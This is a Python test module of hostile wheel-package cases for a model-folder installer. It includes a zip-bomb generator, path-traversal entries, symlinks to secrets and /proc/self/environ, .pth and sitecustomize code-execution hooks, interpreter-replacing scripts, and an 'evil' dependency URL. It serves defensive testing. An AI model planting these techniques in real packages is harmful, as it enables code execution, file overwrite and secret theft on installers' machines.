"""Wheels that travel in a model's folder: what installers, linkers and compilers do with them."""

from __future__ import annotations

import io
import os
import zipfile
from collections.abc import Callable, Iterable, Mapping

from hostile import payloads, programs
from hostile.campaign import CACHE, CHECK, Case
from hostile.ground import Ground
from hostile.making import WHEEL, Make, model, pth, wheel, with_wheel
from hostile.programs import GOOD

Files = Mapping[str, str | bytes]
_DATA = "hostile_pkg-1.0.data"
_METADATA = "Metadata-Version: 2.1\nName: hostile-pkg\nVersion: 1.0\n"


def _case(name: str, make: Make, **more: object) -> Case:
    """It is installed without harm, or refused with a reason."""
    return Case(name=f"wheel-{name}", kind="wheel", make=make, **{"exits": (0, 1, 2), **more})  # type: ignore[arg-type]


def _program(place: Ground) -> str:
    """A script in the place of an interpreter: says who runs it."""
    code = programs.source(payloads.who_runs, place.where)
    return f"#!/usr/bin/python3\n{code}\nraise SystemExit(1)\n"


def _fifo(place: Ground) -> None:
    folder = model(place, wheels={WHEEL: b""}, requirements=["hostile-pkg==1.0"])
    (folder / "wheels" / WHEEL).unlink()
    os.mkfifo(folder / "wheels" / WHEEL)


def _link(to: str) -> Make:
    """The wheel is a link to something else of this machine."""

    def make(place: Ground) -> None:
        folder = model(place, wheels={WHEEL: b"", "good_pkg-1.0-py3-none-any.whl": wheel({}, name="good_pkg")})
        (folder / "wheels" / WHEEL).unlink()
        (folder / "wheels" / WHEEL).symlink_to(str(place.where.get(to, to)))

    return make


def _raw(content: bytes | Callable[[], bytes], name: str = WHEEL) -> Make:
    def make(place: Ground) -> None:
        made = content if isinstance(content, bytes) else content()
        model(place, wheels={name: made}, requirements=["hostile-pkg==1.0"])

    return make


def _bomb() -> bytes:
    """A gigabyte of zeros in a megabyte."""
    target = io.BytesIO(wheel({"hostile_pkg/__init__.py": ""}))
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("hostile_pkg/zeros.bin", "w", force_zip64=True) as entry:
            for _ in range(1024):
                entry.write(bytes(2**20))
    return target.getvalue()


def _escaped(place: Ground) -> Iterable[str]:
    """Whether an entry was put outside of where the wheel was installed."""
    for parent in (place.base, place.base / "cache", place.base / "cache" / "tmp", place.folder):
        yield from (f"{path} was written by a wheel" for path in parent.glob("escaped-*"))


def _outside(name: str) -> Files:
    return {name: "x"}


_UP = "../" * 12
_SOURCE_BOMB = "x = [" + "a," * 3_000_000 + "]\n"
_NESTED = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"

CASES = [
    _case(
        "pth-in-instances",
        with_wheel(lambda place: pth(payloads.who_runs, place)),
        exits=(0,),
        says=(r"all of 1 example right",),
    ),
    _case(
        "pth-swaps-the-socket",
        with_wheel(lambda place: pth(payloads.swaps_its_socket, place)),
        exits=(0, 1),
    ),
    _case(
        "sitecustomize",
        with_wheel(
            lambda place: {
                "sitecustomize.py": programs.source(payloads.who_runs, place.where),
                "usercustomize.py": programs.source(payloads.who_runs, place.where),
            }
        ),
    ),
    _case(
        "replaces-bin-python",
        with_wheel(
            lambda place: {f"{_DATA}/scripts/{name}": _program(place) for name in ("python", "python3", "python3.11")}
        ),
    ),
    _case(
        "replaces-bin-python-as-data",
        with_wheel(lambda place: {f"{_DATA}/data/bin/python": _program(place)}),
    ),
    _case(
        "replaces-pyvenv-cfg",
        with_wheel(
            lambda place: {
                f"{_DATA}/data/pyvenv.cfg": f"home = {place.where['anybody']}\ninclude-system-site-packages = true\n",
                f"{_DATA}/data/complete": "",
            }
        ),
    ),
    _case(
        "console-script-called-python",
        with_wheel(
            lambda _: {
                "hostile_pkg-1.0.dist-info/entry_points.txt": "[console_scripts]\npython = hostile_pkg:main\n"
                "../../../../escaped-script = hostile_pkg:main\n",
                "hostile_pkg/__init__.py": "def main():\n    pass\n",
            }
        ),
        after=_escaped,
    ),
    _case("entry-above", with_wheel(lambda _: _outside(f"{_UP}var/escaped-a")), exits=(0, 1, 2), after=_escaped),
    _case("entry-beside", with_wheel(lambda _: _outside("../../../../escaped-b")), exits=(0, 1, 2), after=_escaped),
    _case("entry-absolute", with_wheel(lambda place: _outside(f"{place.where['owner']}/x")), after=_escaped),
    _case("data-above", with_wheel(lambda _: _outside(f"{_DATA}/data/../../../escaped-c")), after=_escaped),
    _case(
        "entry-through-a-link",
        with_wheel(
            lambda _: {"hostile_pkg/way/key.pem": "x"},
            links=lambda place: {"hostile_pkg/way": str(place.path("secret").parent)},
        ),
    ),
    _case(
        "entry-a-link-to-a-secret",
        with_wheel(lambda _: {}, links=lambda place: {"hostile_pkg/key": str(place.where["secret"])}),
    ),
    _case(
        "link-to-a-secret",
        _link("secret"),
        exits=(2,),
        says=(r"wheels", r"link|regular|not a file", r"remedy"),
    ),
    _case("link-to-environ", _link("/proc/self/environ"), exits=(2,), says=(r"wheels", r"remedy")),
    _case("link-to-endless-device", _link("/dev/zero"), exits=(2,), says=(r"wheels", r"remedy")),
    _case("fifo", _fifo, exits=(2,), says=(r"wheels", r"remedy")),
    _case("not-a-zip", _raw(b"x" * 1000), exits=(1, 2), says=(r"hostile.pkg", r"remedy")),
    _case("empty", _raw(b""), exits=(1, 2), says=(r"hostile.pkg", r"remedy")),
    _case("bad-name", _raw(wheel({}), "x.whl"), exits=(2,), says=(r"remedy",)),
    _case(
        "name-with-escapes", _raw(wheel({}), "hostile_pkg-1.0-py3-none-\x1b[2J.whl"), exits=(1, 2), says=(r"remedy",)
    ),
    _case("other-name-inside", _raw(wheel({}, name="other")), exits=(1, 2), says=(r"hostile.pkg", r"remedy")),
    _case("zip-bomb", _raw(_bomb), exits=(1, 2), disk_mb=400, timeout_s=90.0, says=(r"hostile.pkg|disk|large",)),
    _case(
        "path-of-1500-folders",
        with_wheel(lambda _: {"hostile_pkg/" + "d/" * 1500 + "x.py": ""}),
        commands=(CHECK, CACHE),
    ),
    _case(
        "20000-files", with_wheel(lambda _: {f"hostile_pkg/{number}": "" for number in range(20_000)}), timeout_s=120.0
    ),
    _case(
        "source-that-takes-memory",
        with_wheel(lambda _: {"hostile_pkg/large.py": _SOURCE_BOMB}),
        tree_mb=4400,  # what tools may have is 4 GiB
        timeout_s=120.0,
    ),
    _case("source-nested-deeply", with_wheel(lambda _: {"hostile_pkg/nested.py": _NESTED}), exits=(0,)),
    _case(
        "replaces-the-runner",
        with_wheel(
            lambda place: {
                "harness_runner/__init__.py": programs.source(payloads.who_runs, place.where),
                "harness_model/predictor.py": GOOD,
            }
        ),
    ),
    _case("setuid-entry", with_wheel(lambda _: {f"{_DATA}/scripts/tool": "#!/bin/sh\nid\n"}), exits=(0,)),
    _case(
        "metadata-with-escapes",
        with_wheel(lambda _: {"hostile_pkg-1.0.dist-info/METADATA": f"{_METADATA}\x1b[2J: x\n\n\x9b"}),
    ),
    _case(
        "requires-by-url",
        with_wheel(
            lambda place: {
                "hostile_pkg-1.0.dist-info/METADATA": f"{_METADATA}Requires-Dist: evil @ http://127.0.0.1:{place.where['port']}/evil-1.0.tar.gz\n"
            }
        ),
        exits=(1, 2),
        says=(r"evil", r"remedy"),
    ),
]
